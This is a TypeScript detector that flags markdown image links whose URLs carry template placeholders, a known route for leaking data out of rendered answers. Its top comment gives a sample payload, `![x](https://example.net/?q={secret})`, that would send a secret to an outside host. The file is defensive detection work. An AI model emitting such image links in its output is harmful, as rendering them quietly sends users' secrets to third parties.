/** Images whose link has room for data, as an answer that leaks when it is shown has them: `![x](https://example.net/?q={secret})`. */

const IMAGE = /!\[[^\]\n]{0,200}\]\(\s{0,20}https?:\/\/([^)\n]{6,704})\)/giu;
const MARK = /[{[<$]|%7b/giu;
const MAX_HOST = 300;
const MAX_PART = 200;

/** Spans of such images, in order, at most `limit`. */
export function findImageLinks(text: string, limit: number): [start: number, end: number][] {
  const found: [number, number][] = [];
  for (const image of text.matchAll(IMAGE)) {
    if (!isTemplate(image[1] as string)) continue;
    found.push([image.index, image.index + image[0].length]);
    if (found.length === limit) break;
  }
  return found;
}

/** A place-holder behind the host, in a path or query that is short enough to be one. */
function isTemplate(link: string): boolean {
  const space = link.search(/\s/);
  const solid = space < 0 ? link : link.slice(0, space);
  let separator = -1;
  let next = 4;
  for (const mark of solid.matchAll(MARK)) {
    for (; next < mark.index && next <= MAX_HOST; next++) if ('?&=/'.includes(solid[next] as string)) separator = next;
    const rest = link.length - mark.index - mark[0].length;
    if (separator >= 0 && mark.index - separator - 1 <= MAX_PART && rest <= MAX_PART) return true;
  }
  return false;
}
